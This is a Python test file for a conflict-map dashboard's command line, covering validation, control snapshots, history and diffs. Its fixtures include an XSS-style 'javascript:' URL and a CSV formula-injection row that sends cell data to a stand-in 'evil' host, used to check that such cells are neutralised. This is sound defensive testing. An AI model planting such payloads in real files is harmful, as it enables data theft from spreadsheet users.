"""The command line: validate's exit codes and report, snapshot's layers and formats."""

from __future__ import annotations

import io
import json
from contextlib import redirect_stderr, redirect_stdout

import pandas as pd
import pytest

from dashboard.__main__ import main
from tests.conftest import FIXTURES, HEADER, REPO


def run(*argv):
    out, err = io.StringIO(), io.StringIO()
    with redirect_stdout(out), redirect_stderr(err):
        code = main(list(argv))
    return code, out.getvalue(), err.getvalue()


def test_validate_bundled_events_exits_0():
    code, out, _ = run("validate", str(REPO / "events.csv"))
    assert code == 0
    assert "format: native" in out and "rejected: 0" in out


def test_validate_broken_exits_1_and_lists_every_rejected_row():
    code, out, _ = run("validate", str(FIXTURES / "broken.csv"))
    assert code == 1
    assert "rows read: 17" in out and "accepted: 4" in out and "rejected: 13" in out
    assert "line 3, column date: unparseable date" in out
    assert "line 9, column place: unknown place with no lat/lon" in out


def test_validate_json_has_the_documented_keys():
    code, out, _ = run("validate", "--json", str(FIXTURES / "broken.csv"))
    report = json.loads(out)
    assert code == 1
    assert (report["format"], report["rows"], report["accepted"]) == ("native", 17, 4)
    assert {"line": 13, "column": "url", "value": "javascript:alert(1)"}.items() <= report["rejected"][9].items()


@pytest.mark.parametrize("data", [b"", b"\x00\x01binary", b"no,header,we,know\n1,2,3,4\n"])
def test_validate_unusable_exits_2_with_one_message(tmp_path, data):
    path = tmp_path / "bad.csv"
    path.write_bytes(data)
    code, out, err = run("validate", str(path))
    assert code == 2 and out == ""
    assert err.count("\n") == 1 and "unusable" in err and "Traceback" not in err
    code, out, _ = run("validate", "--json", str(path))
    assert code == 2 and json.loads(out)["format"] is None


def test_snapshot_control_layer_shows_who_holds_each_place():
    code, out, _ = run("snapshot", "--date", "2024-12-05", "--layer", "control")
    held = pd.read_csv(io.StringIO(out), keep_default_na=False).set_index("place")
    assert code == 0
    assert {"place", "controller"} <= set(held.reset_index().columns)
    assert held.loc["Hama", "controller"] == "opposition"
    assert held.loc["Homs", "controller"] == "government"


def test_snapshot_events_layer_is_what_the_map_shows_that_day():
    _, out, _ = run("snapshot", "--date", "2024-11-29", "--events", str(REPO / "events.csv"))
    shown = pd.read_csv(io.StringIO(out), keep_default_na=False)
    everything = pd.read_csv(REPO / "events.csv", keep_default_na=False)
    assert len(shown) == (everything["date"] <= "2024-11-29").sum()
    assert shown["date"].max() <= "2024-11-29"


def test_snapshot_window_and_geojson():
    _, out, _ = run("snapshot", "--date", "2024-12-08", "--mode", "window", "--window", "1", "--format", "geojson")
    collection = json.loads(out)
    assert collection["type"] == "FeatureCollection"
    assert {f["properties"]["date"] for f in collection["features"]} == {"2024-12-08"}


def test_snapshot_rejects_a_bad_date():
    with pytest.raises(SystemExit) as exit_info, redirect_stderr(io.StringIO()):
        main(["snapshot", "--date", "5 Dec"])
    assert exit_info.value.code == 2


def test_snapshot_csv_neutralises_formula_cells_and_leaves_numbers_alone(tmp_path):
    path = tmp_path / "events.csv"
    row = 'a1,2024-12-01,Hill 7,35.5,-0.25,clash,=cmd(),"@x",,-AFP,,,,"=HYPERLINK(""http://evil/?""&A1,""x"")",,+1+2'
    path.write_text(HEADER + "\n" + row + "\n", encoding="utf-8")
    code, out, _ = run("snapshot", "--date", "2024-12-01", "--events", str(path))
    shown = pd.read_csv(io.StringIO(out), dtype=str, keep_default_na=False).iloc[0]
    assert code == 0
    assert (shown["actor"], shown["target"], shown["source"], shown["via"]) == ("'=cmd()", "'@x", "'-AFP", "'+1+2")
    assert shown["description"] == '\'=HYPERLINK("http://evil/?"&A1,"x")'
    assert (shown["lat"], shown["lon"], shown["controller"]) == ("35.5", "-0.25", "")


def test_a_file_over_the_size_limit_is_refused_before_it_is_read(tmp_path):
    """Found in review: the app refused a file over max_file_mb, but the command line read it whole."""
    path = tmp_path / "big.csv"
    path.write_text(HEADER + "\n" + "e{n},2024-12-01,Hama,,,clash,,,,R,,,,,,\n" * 1 + "x" * 1_500_000)
    for command in (["validate", str(path)], ["snapshot", "--date", "2024-12-01", "--events", str(path)]):
        code, out, err = run("--max-file-mb", "1", *command)
        assert code == 2 and "more than this server reads (1 MB" in out + err
    code, _, _ = run("--max-file-mb", "2", "validate", str(path))
    assert code != 2


def test_snapshot_control_says_the_basis_and_the_sources_of_each_place():
    code, out, _ = run("snapshot", "--date", "2024-12-09", "--layer", "control")
    held = pd.read_csv(io.StringIO(out), dtype=str, keep_default_na=False).set_index("place")
    assert code == 0 and list(held.columns[:3]) == ["controller", "basis", "sources"]
    assert set(held["basis"]) <= {"claimed", "baseline", "contested"}
    assert held.loc["Douma", ["controller", "basis", "sources"]].tolist() == ["government", "baseline", ""]
    assert held.loc["Hama", "basis"] == "claimed" and "Reuters; AFP" in held.loc["Hama", "sources"]


def test_snapshot_control_as_one_affiliation_claims_it_has_no_baseline():
    code, out, _ = run("snapshot", "--date", "2024-12-02", "--layer", "control", "--affiliation", "Ukrainian state")
    held = pd.read_csv(io.StringIO(out), dtype=str, keep_default_na=False).set_index("place")
    assert code == 0 and held["basis"].eq("no claim").all() and held["controller"].eq("").all()
    code, out, _ = run("snapshot", "--date", "2024-12-02", "--layer", "control", "--source", "Reuters")
    held = pd.read_csv(io.StringIO(out), dtype=str, keep_default_na=False).set_index("place")
    assert held.loc["Aleppo", ["controller", "basis", "sources"]].tolist() == ["opposition", "claimed", "Reuters"]
    assert held.loc["Homs", "basis"] == "no claim"


def test_history_lists_the_changes_then_the_claims():
    code, out, _ = run("history", "--place", "Hamah")
    changes, claims = out.split("\n\n")
    moved = pd.read_csv(io.StringIO(changes), dtype=str, keep_default_na=False)
    assert code == 0 and moved[["date", "from", "to"]].values.tolist() == [["2024-12-05", "government", "opposition"]]
    assert "Reuters" in moved.loc[0, "sources"] and "AFP" in moved.loc[0, "sources"]
    listed = pd.read_csv(io.StringIO(claims), dtype=str, keep_default_na=False)
    assert listed["date"].is_monotonic_increasing and len(listed) >= 5
    code, out, _ = run("history", "--place", "Hama", "--format", "json")
    report = json.loads(out)
    assert report["place"] == "Hama" and report["changes"][0]["to"] == "opposition" and report["claims"]


def test_diff_lists_the_places_that_changed_hands():
    code, out, _ = run("diff", "--from", "2024-12-05", "--to", "2024-12-08")
    moved = pd.read_csv(io.StringIO(out), dtype=str, keep_default_na=False).set_index("place")
    assert code == 0 and list(moved.reset_index().columns) == ["place", "from", "to", "date", "sources"]
    assert moved.loc["Homs", ["from", "to", "date"]].tolist() == ["government", "opposition", "2024-12-08"]
    assert "Hama" not in moved.index  # it fell on the 5th: no change between the two days
    code, out, _ = run("diff", "--from", "2024-12-05", "--to", "2024-12-08", "--format", "json")
    assert {"place": "Damascus", "from": "government", "to": "opposition"}.items() <= next(
        r for r in json.loads(out) if r["place"] == "Damascus"
    ).items()


@pytest.mark.parametrize(
    "argv, named",
    [
        (("history", "--place", "Atlantis"), "'Atlantis'"),
        (("diff", "--from", "2024-12-05", "--to", "2025-03-01"), "2025-03-01"),
        (("diff", "--from", "2020-01-01", "--to", "2024-12-05"), "2020-01-01"),
        (("snapshot", "--date", "2024-12-05", "--layer", "control", "--source", "Nobody"), "'Nobody'"),
    ],
)
def test_an_unknown_place_day_or_source_is_named_with_exit_2(argv, named):
    code, out, err = run(*argv)
    assert code == 2 and out == "" and named in err and "Traceback" not in err
